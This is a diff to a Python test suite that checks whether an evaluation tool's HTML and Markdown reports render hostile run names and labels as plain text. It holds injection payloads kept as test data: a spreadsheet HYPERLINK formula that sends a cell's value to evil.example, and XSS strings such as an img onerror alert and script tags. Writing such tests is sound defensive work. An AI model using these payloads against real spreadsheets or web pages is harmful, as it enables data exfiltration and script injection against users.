@@ -35,6 +35,8 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+SUM(1,2)", "-2+3", "
             "\t=1+1", "=1+1"]
 RELATIONS = {"capital": "=cap<!--|`x`", "language": "@lang<script>"}
 REL_LABELS = {"capital": "<!--<script>", "language": f"`a`` [x]({EVIL}) *b*"}
+# a run folder's name becomes the model's name in every table
+RUN = "=run<img src=x onerror=alert(1)>`x`"
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?")
 
@@ -68,7 +70,7 @@ def ws(tmp_path_factory, tiny_causal_dir) -> Path:
        "--min-objects", "4", "--train", "2", "--test", "4", "--out", "mc")
     shutil.copytree(tiny_causal_dir, ws / "model")
     ok(ws, "eval", "zp-lke", "--dataset", "mc", "--model", "model", "--examples", "2",
-       "--response-tokens", "0", "--out", "results/=run<!--`x`")
+       "--response-tokens", "0", "--out", f"results/{RUN}")
     ok(ws, "report", "--results", "results", "--html", "--bootstrap", "50", "--out", "report")
     ok(ws, "publish", "mc", "--repo-id", "me/hostile", "--dry-run", "hub",
        "--pretty-name", "<script>x</script> `t`")
@@ -108,8 +110,7 @@ def test_markdown_shows_data_as_text(ws, name):
         assert "=cap&lt;!--|`x`" in html.replace("<code>", "").replace("</code>", "")
         assert "&lt;script&gt;x&lt;/script&gt;" in html         # --pretty-name, as text
     else:
-        assert "=run&lt;!--`x`" in html.replace("<code>", "").replace("</code>", "") or \
-            "=run&lt;!--" in html
+        assert "=run&lt;img src=x onerror=alert(1)&gt;`x`" in html
     assert "\u2028" not in text and "\u2029" not in text
 
 
@@ -161,7 +162,7 @@ def test_page_in_chromium_runs_no_data_and_shows_everything(ws):
         assert pg.evaluate("typeof window.__pwned") == "undefined"
         assert pg.eval_on_selector_all(".lb-cell", "cs => cs.length") > 0
         body = pg.inner_text("body")
-        assert "=run<!--`x`" in body                          # the run's name, as text
+        assert RUN in body                                    # the run's name, as text
         pg.click("#tab-explore")
         pg.select_option("#dataset", index=0)
         relations = pg.eval_on_selector_all("#relation option", "os => os.map(o => o.value)")
